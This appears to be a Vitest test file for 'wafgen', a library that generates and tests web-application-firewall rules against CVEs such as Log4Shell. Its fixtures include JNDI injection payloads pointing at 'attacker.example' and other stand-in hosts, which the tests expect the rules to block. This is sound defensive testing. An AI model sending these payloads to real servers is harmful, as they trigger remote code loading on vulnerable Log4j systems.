// The programmatic API as a consumer sees it: imported through the package name, so through
// package.json `exports` into the built dist/ (test/global-setup.ts builds it), never the sources.
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterAll, describe, expect, it } from 'vitest';

import {
  generateRule,
  testRules,
  validateRules,
  WafgenInputError,
  type GenerateRuleOptions,
  type HttpRequestInput,
  type VulnRecordInput,
} from 'wafgen';

import { fixture, runBin } from './support/cli.js';
import { REPO_ROOT } from './support/shared.js';

const dir = mkdtempSync(join(tmpdir(), 'wafgen-library-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const LOG4SHELL_RULE = fixture('rules/log4shell-rule.json');
const log4shellRule = JSON.parse(readFileSync(LOG4SHELL_RULE, 'utf8')) as unknown;

const exploit: HttpRequestInput = {
  id: 'exploit',
  method: 'GET',
  uri: '/api/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D',
  headers: [['Host', 'shop.example']],
  expect: 'block',
};
const ordinary: HttpRequestInput = {
  id: 'ordinary',
  method: 'GET',
  uri: '/api/search?q=winter+boots',
  headers: [['Host', 'shop.example']],
  expect: 'allow',
};

/** The bundled record of `id`, as shipped in data/ (read here, not through wafgen). */
function bundledRecord(id: string): VulnRecordInput & { exploit?: { endpoints?: string[] } } {
  const line = readFileSync(join(REPO_ROOT, 'data/vulns.bundled.jsonl'), 'utf8')
    .split('\n')
    .find((l) => l.includes(`"id":"${id}"`));
  if (!line) throw new Error(`${id} is not bundled`);
  return JSON.parse(line) as VulnRecordInput;
}

async function inputError(p: Promise<unknown> | (() => unknown)): Promise<WafgenInputError> {
  try {
    await (typeof p === 'function' ? p() : p);
  } catch (e) {
    expect(e).toBeInstanceOf(WafgenInputError);
    expect(e).toBeInstanceOf(Error);
    return e as WafgenInputError;
  }
  throw new Error('expected a WafgenInputError');
}

// A generation checks its candidates against the whole built-in benign corpus, and the CLI
// comparisons start processes: seconds each on a busy machine, so those tests get more than 30 s.
const SLOW_MS = 120_000;

describe('generateRule', () => {
  it(
    'generates a checked rule for a bundled CVE, offline, with no store',
    async () => {
      const steps: string[] = [];
      const { rule, report } = await generateRule('cve-2021-44228', { onStep: (m) => steps.push(m) });
      expect(report.cveId).toBe('CVE-2021-44228');
      expect(rule.Name).toMatch(/CVE-2021-44228/i);
      expect(rule.Action).toEqual({ Block: {} });
      expect(report.engine).toBe('builtin');
      expect(validateRules(rule).valid).toBe(true);
      expect(steps.some((s) => s.startsWith('attempt 1'))).toBe(true);
      // The bundled record's exploit facts are part of what it used.
      expect(report.evidenceUsed).toContain('bundled record');
    },
    SLOW_MS,
  );

  it(
    'withholdBundled uses nothing wafgen bundles about the CVE',
    async () => {
      const id = 'CVE-2017-10271';
      const record = bundledRecord(id);
      expect(record.exploit?.endpoints?.length).toBeGreaterThan(0);
      const withheld = await generateRule(id, { withholdBundled: true });
      // No bundled record facts, no bundled exploit request (whatever data/exploits.bundled.jsonl holds).
      expect(withheld.report.evidenceUsed.filter((s) => /bundled/.test(s))).toEqual([]);
      expect(withheld.report.tests.evidence.total).toBe(0);
      // The same as generating from the record with its exploit facts removed: the facts had no part.
      const { exploit: _facts, ...publicFields } = record;
      const blind = await generateRule(publicFields, { withholdBundled: true });
      expect(withheld.rule).toEqual(blind.rule);
      const { durationMs: _a, ...withheldReport } = withheld.report;
      const { durationMs: _b, ...blindReport } = blind.report;
      expect(withheldReport).toEqual(blindReport);
      // Without withholding, the facts are used.
      const full = await generateRule(id);
      expect(full.report.evidenceUsed).toContain('bundled record');
    },
    SLOW_MS,
  );

  it(
    'takes a caller record, exploit and benign requests as objects or files',
    async () => {
      const exploitsFile = join(dir, 'exploits.jsonl');
      writeFileSync(
        exploitsFile,
        JSON.stringify({ ...exploit, id: 'from-file', uri: '/?x=${jndi:ldap://a.example/b}' }) + '\n',
      );
      const { rule, report } = await generateRule(
        {
          id: 'CVE-2099-0001',
          description: 'Remote code execution through JNDI lookups in logged request parameters.',
        },
        {
          exploits: [{ ...exploit, source: 'my poc' }, exploitsFile],
          benign: [ordinary, { ...ordinary, id: 'ordinary-2', uri: '/api/search?q=jndi+tutorial' }],
          maxAttempts: 2,
        },
      );
      expect(report.cveId).toBe('CVE-2099-0001');
      expect(report.tests.evidence.total).toBe(2);
      expect(report.tests.benign.total).toBe(2);
      expect(report.evidenceUsed).toEqual(expect.arrayContaining(['my poc', exploitsFile]));
      const tested = await testRules(rule, [exploit, ordinary]);
      expect(tested.missed).toEqual([]);
      expect(tested.falsePositives).toEqual([]);
    },
    SLOW_MS,
  );

  it(
    'stops when its signal is aborted',
    async () => {
      const controller = new AbortController();
      controller.abort();
      await expect(generateRule('CVE-2021-44228', { signal: controller.signal })).rejects.toMatchObject({
        name: 'AbortError',
      });
      const later = new AbortController();
      await expect(
        generateRule('CVE-2021-44228', { signal: later.signal, onStep: () => later.abort() }),
      ).rejects.toMatchObject({ name: 'AbortError' });
    },
    SLOW_MS,
  );

  it(
    'throws WafgenInputError on a bad CVE, record, request or option',
    async () => {
      expect((await inputError(generateRule('log4shell'))).code).toBe('invalid-cve');
      const unknown = await inputError(generateRule('CVE-2099-0002'));
      expect(unknown.code).toBe('invalid-cve');
      expect(unknown.message).toMatch(/not in wafgen's bundled dataset/);
      const record = await inputError(
        generateRule({ id: 'CVE-2099-0003', description: 'x', severity: 'dire' as 'high' }),
      );
      expect(record.code).toBe('invalid-record');
      expect(record.issues[0]?.path).toBe('record.severity');
      const request = await inputError(
        generateRule('CVE-2021-44228', { exploits: [exploit, { method: 'G ET', uri: '/' }] }),
      );
      expect(request.code).toBe('invalid-request');
      expect(request.issues).toEqual([{ path: 'exploits.1', message: expect.stringMatching(/method/) }]);
      const file = await inputError(generateRule('CVE-2021-44228', { benign: [join(dir, 'missing.jsonl')] }));
      expect(file.code).toBe('unreadable-file');
      const option = await inputError(
        generateRule('CVE-2021-44228', { maxAttempts: 0, withholdBundle: true } as GenerateRuleOptions),
      );
      expect(option.code).toBe('invalid-options');
      expect(option.issues.map((i) => i.path).sort()).toEqual(['options', 'options.maxAttempts']);
    },
    SLOW_MS,
  );
});

describe('testRules', () => {
  it('catches the exploit and lets ordinary traffic through', async () => {
    const r = await testRules(log4shellRule, [exploit, ordinary]);
    expect(r.results.map((x) => [x.id, x.matched, x.mismatch])).toEqual([
      ['exploit', true, false],
      ['ordinary', false, false],
    ]);
    expect(r.results[0]).toMatchObject({
      action: 'BLOCK',
      terminatingStatement: expect.stringMatching(/^\$/),
    });
    expect(r.summary).toMatchObject({ total: 2, matched: 1, allowed: 1, mismatches: 0 });
    expect(r.missed).toEqual([]);
    expect(r.falsePositives).toEqual([]);
    // A rule that misses: what it missed is named.
    const missed = await testRules(log4shellRule, [
      { ...exploit, expect: 'allow' },
      { ...ordinary, expect: 'block' },
    ]);
    expect(missed.falsePositives).toEqual(['exploit']);
    expect(missed.missed).toEqual(['ordinary']);
  });

  it(
    'agrees with `wafgen test --json` on the same input',
    async () => {
      const file = join(dir, 'requests.jsonl');
      writeFileSync(
        file,
        [exploit, ordinary, { ...exploit, id: 'header', uri: '/', headers: [['X-Api', '${jndi:dns://x}']] }]
          .map((r) => JSON.stringify(r))
          .join('\n') + '\n{"broken":\n',
      );
      for (const extra of [[], ['--variants'], ['--explain']]) {
        const cli = runBin(['test', '--rule', LOG4SHELL_RULE, '--requests', file, '--json', ...extra]);
        expect(cli.stdout, cli.stderr).not.toBe('');
        const lib = await testRules(log4shellRule, file, {
          variants: extra.includes('--variants'),
          explain: extra.includes('--explain'),
        });
        const { results, summary, parseErrors } = lib;
        expect(JSON.parse(cli.stdout)).toEqual(JSON.parse(JSON.stringify({ results, summary, parseErrors })));
        expect(parseErrors).toHaveLength(1);
      }
    },
    SLOW_MS,
  );

  it('throws WafgenInputError for a document that is not a rule, bad requests or nothing to test', async () => {
    const doc = await inputError(testRules({ Name: 'x' }, [exploit]));
    expect(doc.code).toBe('invalid-document');
    expect(doc.issues.length).toBeGreaterThan(0);
    expect(doc.issues[0]?.path).toMatch(/^document/);
    const bad = await inputError(
      testRules(log4shellRule, [ordinary, { method: 'GET' } as HttpRequestInput, 42 as unknown as string]),
    );
    expect(bad.code).toBe('invalid-request');
    expect(bad.issues.map((i) => i.path)).toEqual(['requests.1', 'requests.2']);
    expect((await inputError(testRules(log4shellRule, []))).message).toMatch(/no requests to test/);
    expect((await inputError(testRules(log4shellRule, join(dir, 'nope.jsonl')))).code).toBe(
      'unreadable-file',
    );
    const many = await inputError(testRules(log4shellRule, [exploit], { variants: true, maxEvaluations: 2 }));
    expect(many.message).toMatch(/too many evaluations/);
  });
});

describe('validateRules', () => {
  it(
    'reports findings and WCU, as `wafgen validate --json`',
    () => {
      const good = validateRules(log4shellRule, { cveId: 'CVE-2021-44228' });
      expect(good).toMatchObject({ valid: true, kind: 'rule', rules: 1 });
      expect(good.wcu).toBeGreaterThan(0);
      const broken = fixture('rules/broken-rule.json');
      const r = validateRules(JSON.parse(readFileSync(broken, 'utf8')));
      expect(r.valid).toBe(false);
      expect(r.summary.errors).toBeGreaterThan(0);
      expect(r.findings.some((f) => f.severity === 'error' && f.path.startsWith('$'))).toBe(true);
      const cli = runBin(['validate', broken, '--json']);
      expect(cli.code).toBe(1);
      expect(JSON.parse(cli.stdout)).toEqual(JSON.parse(JSON.stringify({ file: broken, ...r })));
      // Not a document at all is a finding, not an exception.
      expect(validateRules('rule.json').valid).toBe(false);
    },
    SLOW_MS,
  );

  it('throws WafgenInputError on bad options', async () => {
    const e = await inputError(() => validateRules(log4shellRule, { cveId: 'log4shell' }));
    expect(e.code).toBe('invalid-options');
    expect(e.issues[0]?.path).toBe('options.cveId');
  });
});

// A project outside the repository that depends on it (`npm install <repo>` links it like this):
// its TypeScript resolves the types through `exports`, and Node runs it.
describe('a consumer in another directory', () => {
  it('type-checks against the declarations and runs', () => {
    const app = join(dir, 'consumer');
    mkdirSync(join(app, 'node_modules'), { recursive: true });
    symlinkSync(REPO_ROOT, join(app, 'node_modules', 'wafgen'), 'dir');
    writeFileSync(
      join(app, 'package.json'),
      JSON.stringify({ name: 'consumer', type: 'module', private: true }),
    );
    writeFileSync(
      join(app, 'tsconfig.json'),
      JSON.stringify({
        compilerOptions: {
          target: 'ES2022',
          module: 'NodeNext',
          moduleResolution: 'NodeNext',
          strict: true,
          noEmit: true,
          skipLibCheck: false,
          types: [],
        },
        files: ['check.ts'],
      }),
    );
    writeFileSync(
      join(app, 'check.ts'),
      `import { testRules, validateRules, WafgenInputError, type HttpRequestInput, type Rule, type TestRulesResult, type ValidationResult } from 'wafgen';
const request: HttpRequestInput = { method: 'GET', uri: '/', expect: 'allow' };
const rule = {} as Rule;
const v: ValidationResult = validateRules(rule);
const t: Promise<TestRulesResult> = testRules(rule, [request, 'requests.jsonl'], { variants: true });
const e: WafgenInputError['code'] = 'invalid-document';
// @ts-expect-error internal modules are not exported
import('wafgen/dist/app/generate.js');
export { v, t, e };
`,
    );
    execFileSync(process.execPath, [join(REPO_ROOT, 'node_modules/typescript/bin/tsc'), '-p', app], {
      cwd: app,
      encoding: 'utf8',
    });
    writeFileSync(
      join(app, 'run.mjs'),
      `import { validateRules } from 'wafgen';
import { readFileSync } from 'node:fs';
const r = validateRules(JSON.parse(readFileSync(process.argv[2], 'utf8')));
console.log(JSON.stringify({ valid: r.valid, wcu: r.wcu }));
await import('wafgen/dist/app/generate.js').then(() => console.log('internal reachable'), (e) => console.log(e.code));
`,
    );
    const out = execFileSync(process.execPath, ['run.mjs', LOG4SHELL_RULE], { cwd: app, encoding: 'utf8' });
    const [first, second] = out.trim().split('\n');
    expect(JSON.parse(first!)).toMatchObject({ valid: true, wcu: expect.any(Number) });
    expect(second).toBe('ERR_PACKAGE_PATH_NOT_EXPORTED');
  }, 120_000);
});
